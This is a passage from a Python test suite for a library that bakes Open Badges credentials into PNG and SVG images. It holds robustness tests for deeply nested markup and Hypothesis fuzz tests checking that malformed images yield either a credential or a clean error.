        unbake(b'<svg xmlns="http://www.w3.org/2000/svg" ' + attributes + b"/>")


def test_deeply_nested_markup_is_handled_without_recursion() -> None:
    depth = 20_000
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:b="'
        + OB3.encode()
        + b'">'
        + b"<g>" * depth
        + b'<b:credential verify="a.b.c"/>'
        + b"</g>" * depth
        + b"</svg>"
    )
    assert unbake(svg).payload == "a.b.c"
    assert sanitize_svg(svg).count(b"<g>") == depth
    assert unbake(bake_svg(svg, JWT)).payload == JWT


def test_it_refuses_to_bake_characters_that_xml_cannot_carry() -> None:
    with pytest.raises(BakingError, match="characters that XML cannot carry"):
        bake_svg(PLAIN_SVG, '{"name": "\ufffe"}')
    assert unbake(bake_png(_png(), '{"name": "\ufffe"}')).payload == {"name": "\ufffe"}


# --- fuzzing -------------------------------------------------------------------------------------

BAKED_PNG = bake_png(_png(size=(6, 5)), CREDENTIAL)
BAKED_SVG = bake_svg(_fixture("exported_with_doctype.svg"), SIGNED_JSON)
SEEDS = [
    BAKED_PNG,
    BAKED_SVG,
    bake_svg(PLAIN_SVG, JWT),
    _fixture("ob2_hosted_assertion.svg"),
    _png_with_text(("zTXt", "openbadges", JWT)),
]


def _unbake_or_refuse(data: bytes) -> None:
    with contextlib.suppress(BakingError):
        assert isinstance(unbake(data), BakedCredential)


@given(st.binary(max_size=4096))
@settings(max_examples=400, deadline=None)
def test_random_bytes_give_a_credential_or_a_baking_error(data: bytes) -> None:
    _unbake_or_refuse(data)
    _unbake_or_refuse(b"\x89PNG\r\n\x1a\n" + data)
    _unbake_or_refuse(b"<svg" + data)


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(1, 4))):
        position = draw(st.integers(0, len(data)))
        action = draw(st.sampled_from(["flip", "cut", "insert", "delete"]))
        if action == "flip" and position < len(data):
            data[position] ^= 1 << draw(st.integers(0, 7))
        elif action == "cut":
            del data[position:]
        elif action == "insert":
            data[position:position] = draw(st.binary(min_size=1, max_size=16))
        else:
            del data[position : position + draw(st.integers(1, 64))]
    return bytes(data)


@given(mutated())
@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_mutated_images_give_a_credential_or_a_baking_error(data: bytes) -> None:
    _unbake_or_refuse(data)
    try:
        baked = bake(data, JWT)
    except BakingError:
        return
    assert unbake(baked).payload == JWT


@given(mutated())
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_sanitizing_mutated_svgs_gives_a_clean_svg_or_a_baking_error(data: bytes) -> None:
    try:
        clean = sanitize_svg(data)
    except BakingError:
        return
    assert b"<script" not in clean
    assert sanitize_svg(clean) == clean


svg_text = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=200).map(
    lambda text: text.encode("utf-8")
)


@given(svg_text, svg_text)
@settings(max_examples=300, deadline=None)
def test_arbitrary_markup_inside_an_svg_gives_a_credential_or_a_baking_error(
    attribute: bytes, body: bytes
) -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:b="'
        + OB3.encode()
        + b'" a="'
        + attribute
        + b'"><b:credential>'
        + body
        + b"</b:credential>"
        + body
        + b"</svg>"
    )
    _unbake_or_refuse(svg)
    for operation in (sanitize_svg, lambda data: bake_svg(data, CREDENTIAL)):
        with contextlib.suppress(BakingError):
            operation(svg)


@given(st.text(max_size=300) | st.dictionaries(st.text(max_size=10), st.text(max_size=20)))
@settings(max_examples=200, deadline=None)
def test_any_credential_is_baked_faithfully_or_refused(credential: str | dict) -> None:
    for image in (BAKED_PNG, BAKED_SVG):
        try:
            baked = bake(image, credential)
        except BakingError:
            continue
        found = unbake(baked)
        if isinstance(credential, dict):
            assert found.payload == credential
        elif image is BAKED_PNG:
            assert found.text == credential.strip(" \t\r\n")
        else:
            normalized = credential.replace("\r\n", "\n").replace("\r", "\n")
            assert found.text == normalized.strip(" \t\r\n")
